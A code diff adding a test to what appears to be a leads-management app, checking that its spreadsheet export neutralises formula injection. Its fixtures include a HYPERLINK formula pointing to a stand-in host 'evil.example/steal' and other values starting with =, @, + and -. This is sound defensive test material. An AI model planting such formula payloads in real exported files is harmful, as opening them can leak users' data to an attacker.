@@ -431,6 +431,52 @@ def test_export_holds_the_filtered_list_with_readable_values(app, people, leads)
     assert record["Created on"] is not None
 
 
+FORMULAS = {
+    "company": '=HYPERLINK("http://evil.example/steal","click")',
+    "contact": "=1+1",
+    "campaign": "@SUM(A1:A9)",
+}
+
+
+def test_export_writes_names_that_look_like_formulas_as_text(app, people):
+    campaign = gen_campaign(app, name=FORMULAS["campaign"])
+    with app.app_context():
+        actor = db.session.get(User, people["admin"].id)
+        create_lead(
+            actor,
+            company_name=FORMULAS["company"],
+            territory_code="440305",
+            campaign_id=campaign,
+            contacts=[ContactInput(FORMULAS["contact"], phones=["13800138000"])],
+            next_touch_on=date(2026, 12, 24),
+        )
+        create_lead(
+            actor,
+            company_name="-减号开头医药",
+            territory_code="440305",
+            campaign_id=campaign,
+            contacts=[ContactInput("+加号 先生"), ContactInput("@王经理")],
+        )
+        db.session.commit()
+    response = signed_in(app, people["admin"], "en").get("/leads/export.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(BytesIO(response.data)).active  # not read-only: the cells' types are kept
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
+    lead = rows[FORMULAS["company"]]
+    assert lead["Contacts"].value == FORMULAS["contact"]
+    assert lead["Campaign"].value == FORMULAS["campaign"]
+    assert lead["Company name"].data_type == "s"
+    other = rows["-减号开头医药"]
+    assert other["Contacts"].value == "+加号 先生、@王经理"
+    # Numbers and dates stay numbers and dates.
+    assert lead["Next touch"].is_date
+    assert lead["Next touch"].value.date() == date(2026, 12, 24)
+    assert lead["Created on"].is_date
+
+
 def test_export_of_a_rep_holds_only_their_territories(app, people, leads):
     rows = _export(signed_in(app, people["rep"]))
     names = {row[0] for row in rows[1:]}
